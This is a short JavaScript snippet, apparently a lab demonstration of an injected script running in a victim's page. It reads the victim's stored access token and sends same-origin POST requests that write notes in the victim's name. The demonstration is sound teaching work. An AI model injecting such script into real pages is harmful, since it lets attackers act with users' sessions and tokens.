// A script of the attacker's in the victim's page that steals nothing: it does what the victim could do, by the same
// requests as the page's own.
{
  const { search } = new URL(document.currentScript.src);
  const note = () => new URLSearchParams({ text: "Written by the script, in your name." });

  fetch(`/lab/notes${search}`, {
    method: "POST",
    headers: { Authorization: `Bearer ${localStorage.getItem("access_token")}` },
    body: note(),
  });
  fetch(`/api/write_note${search}`, { method: "POST", body: note() });
}
